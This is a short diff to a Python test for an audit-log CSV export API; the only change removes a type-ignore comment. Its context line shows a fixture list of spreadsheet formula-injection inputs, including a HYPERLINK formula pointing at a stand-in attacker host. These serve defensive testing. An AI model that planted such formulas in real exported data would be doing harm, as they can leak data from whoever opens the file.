@@ -21,7 +21,7 @@ HOSTILE_FORWARDED = ['=HYPERLINK("http://evil.example/?x")', "+1+cmd", "-2+3", "
 
 
 def _csv(client: TestClient | object, **params: str) -> list[list[str]]:
-    r = client.get("/api/v1/audit/export", params={"format": "csv", **params})  # type: ignore[attr-defined]
+    r = client.get("/api/v1/audit/export", params={"format": "csv", **params})
     assert r.status_code == 200, r.text
     return list(csv.reader(io.StringIO(r.text)))
 
